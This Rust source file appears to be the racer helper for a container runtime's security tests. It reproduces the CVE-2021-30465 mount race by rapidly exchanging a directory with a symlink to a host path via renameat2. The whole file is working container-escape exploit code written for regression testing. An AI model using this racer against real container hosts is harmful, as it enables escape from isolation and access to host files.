//! The racer of `tests/security_mounts.rs` (CVE-2021-30465): run inside a
//! container that shares the volume DIR with containers being started, it
//! swaps `DIR/sub` between a real directory and a symlink to HOST_PATH (a
//! directory on the host, given by absolute path) as fast as it can, with
//! renameat2(RENAME_EXCHANGE), so that a runtime which checks a mount target
//! and then walks it again by path may follow the symlink out of the root.
//!
//! Usage: attack_mount_race DIR HOST_PATH
//! Between batches it empties the real directory again (the new containers
//! create their targets in it), so that every start has something to create.
//! It stops when DIR/stop appears, and writes the number of exchanges it made
//! to DIR/count.

use nix::fcntl::{renameat2, RenameFlags, AT_FDCWD};
use std::path::Path;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, dir, host_path] = args.as_slice() else {
        eprintln!("usage: attack_mount_race DIR HOST_PATH");
        std::process::exit(2);
    };
    let dir = Path::new(dir);
    let real = dir.join("sub");
    let link = dir.join("sub-link");
    std::fs::create_dir_all(&real).expect("create DIR/sub");
    let _ = std::fs::remove_file(&link);
    std::os::unix::fs::symlink(host_path, &link).expect("create the symlink");
    std::fs::write(dir.join("ready"), "").expect("write DIR/ready");

    let stop = dir.join("stop");
    let mut exchanges: u64 = 0;
    loop {
        for _ in 0..1000 {
            renameat2(
                AT_FDCWD,
                &real,
                AT_FDCWD,
                &link,
                RenameFlags::RENAME_EXCHANGE,
            )
            .expect("renameat2(RENAME_EXCHANGE)");
            exchanges += 1;
        }
        for name in [&real, &link] {
            let _ = std::fs::remove_file(name.join("file"));
            let _ = std::fs::remove_dir_all(name.join("deeper"));
        }
        if stop.exists() {
            break;
        }
    }
    std::fs::write(dir.join("count"), exchanges.to_string()).expect("write DIR/count");
}
